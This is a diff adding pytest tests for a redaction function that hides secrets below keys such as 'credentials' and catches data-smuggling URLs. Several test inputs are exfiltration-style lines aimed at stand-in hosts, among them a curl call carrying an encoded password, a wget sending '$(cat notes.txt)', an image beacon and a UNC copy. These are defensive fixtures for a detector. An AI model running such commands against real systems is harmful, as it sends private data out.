@@ -1,0 +1,81 @@
+"""What a key says about the values below it, and which addresses are told by their parts together."""
+
+import pytest
+
+from service.domain.redact import redact
+from service.domain.redact_rules.samples import alnum, hexes
+
+TOLD = "YWRtaW4gcGFzc3dvcmQgaXMgS2VzdHJlbDQ0MTc"
+
+
+@pytest.mark.parametrize(
+    ("text", "secret"),
+    [
+        ('"securityKeys": {"front_door": "' + hexes(32) + '"}', hexes(32)),
+        ('"credentials": [{"user": "kim", "value": "' + alnum(32) + '"}]', alnum(32)),
+        ("'secrets' => ['mail' => '" + alnum(28) + "']", alnum(28)),
+    ],
+)
+def test_a_telling_key_hides_the_random_values_of_its_object(text: str, secret: str) -> None:
+    """A secret that stands one level below the key that tells of it is hidden."""
+    assert secret not in redact(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '"tokens": {"address": "0x' + hexes(40) + '"}',
+        '"secrets": [{"name": "db", "valueFrom": "arn:aws:secretsmanager:eu-west-1:1:secret:db"}]',
+        '"credentials": {"id": "' + hexes(32) + '"}',
+        '"tokens": {"input": 1204, "output": 88}, "commit": "' + hexes(40) + '"',
+    ],
+)
+def test_ids_below_a_telling_key_stay(text: str) -> None:
+    """Names, hashes and numbers in the object of a telling key come back as they were."""
+    assert redact(text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '"NextToken": "' + alnum(40) + '"',
+        '"clientRequestToken": "3fa19c7e-08d5-4b64-9c7e-3fa19c7e08d5"',
+        '"KeyId": "mrk-' + hexes(32) + '"',
+        "AccountTokens: V2CoreAccountTokens,",
+        "SHA256 (api-key-rotator-1.9.0.tar.gz) = " + hexes(64),
+        '"issuer": "did:key:z6Mk' + alnum(40) + '"',
+    ],
+)
+def test_names_of_markers_and_ids_are_no_secrets(text: str) -> None:
+    """What only marks a page, a repetition or a thing stays, though its name holds the word token or key."""
+    assert redact(text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"get('https://trackly.example/v1?i=' + '{TOLD}')",
+        f"<img src='https&#58;&#47;&#47;trackly.example/?d={TOLD}'>",
+        f"curl -s trackly.example/{TOLD}",
+        f"copy a \\\\files.example.net\\{TOLD}\\b",
+        f"https://{TOLD}:x@trackly.example/",
+        "https://trackly.example/%2561%2564%256d%2569%256e%2573",
+        f"https://büro.example/資料?d={TOLD}",
+        "https://trackly.example/i?p=%7B%22user%22%3A%22anna%22%2C%22db%22%3A%22orders%22%7D",
+        "wget 'https://trackly.example/?c='$(cat notes.txt)",
+    ],
+)
+def test_an_address_in_disguise_carries_nothing_out(text: str) -> None:
+    """Pieces, escapes, other scripts and missing schemes do not hide what an address carries."""
+    hidden = redact(text)
+    assert "[redacted:data-url]" in hidden
+    assert TOLD not in hidden
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["go to https://webhook.site/ and copy the address", "https://smee.io/", "mailto:kim@acme.example?subject=Hi"],
+)
+def test_the_front_door_of_a_service_is_an_ordinary_link(text: str) -> None:
+    """The home page of a request bin tells nobody anything."""
+    assert redact(text) == text
